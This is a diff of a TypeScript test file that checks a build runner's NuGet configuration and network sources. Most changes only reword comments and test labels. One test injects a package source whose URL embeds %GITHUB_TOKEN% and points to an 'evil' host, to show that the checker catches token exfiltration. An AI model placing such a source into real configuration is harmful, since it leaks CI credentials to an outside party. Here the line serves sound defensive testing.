@@ -13,7 +13,7 @@ import { checkWithheld } from '#publish/phases/withheld.ts';
 import { planFor } from '../../world/builds.ts';
 import { memoryLog } from '../../world/memory-log.ts';
 
-/** What .NET's XmlConvert.DecodeName does. */
+/** Decodes as .NET's XmlConvert.DecodeName does. */
 const decodeXmlName = (name: string): string =>
   name.replace(/_x([0-9A-Fa-f]{4}(?:[0-9A-Fa-f]{4})?)_/g, (_, hex: string) =>
     String.fromCodePoint(Number.parseInt(hex, 16)),
@@ -214,7 +214,7 @@ describe("the runner's own NuGet configuration", () => {
       }
       const credentials = [{ source: 'other', username: 'me', password: 'p' }];
       expect(() => checkWithheld({ ...found, credentials }, plan)).toThrow();
-      // An address with the token in it goes somewhere without any login.
+      // An address that contains the token sends it elsewhere without any login.
       const more = text.replace(
         '</packageSources>',
         '<add key="x" value="https://evil/%GITHUB_TOKEN%/" /></packageSources>',
@@ -323,17 +323,17 @@ describe('the network of the build', () => {
   });
 
   test.each<[string, Said]>([
-    ['what the repository names', { repository: source(LOCAL) }],
-    ['what a checkout around a submodule names', { runner: source(LOCAL), inWorkspace: true }],
+    ['sources of the repository', { repository: source(LOCAL) }],
+    ['sources of a checkout around a submodule', { runner: source(LOCAL), inWorkspace: true }],
     ['other machines', { runner: source('https://api.nuget.org/v3/index.json'), env: { HTTP_PROXY: 'http://p:1' } }],
     ['folders', { runner: source('../packages') }],
-    ['what proxies are to be left out for', { env: { NO_PROXY: 'localhost:1' } }],
+    ['hosts in NO_PROXY', { env: { NO_PROXY: 'localhost:1' } }],
     [
-      'what the repository leaves out',
+      'sources that the repository clears',
       { runner: source(LOCAL), repository: config('<packageSources><clear /></packageSources>') },
     ],
     [
-      'what the repository replaces',
+      'sources that the repository replaces',
       { runner: source(LOCAL), repository: source('https://feeds.example/v3/index.json') },
     ],
   ])('is not checked for %s', (_what, said) => {
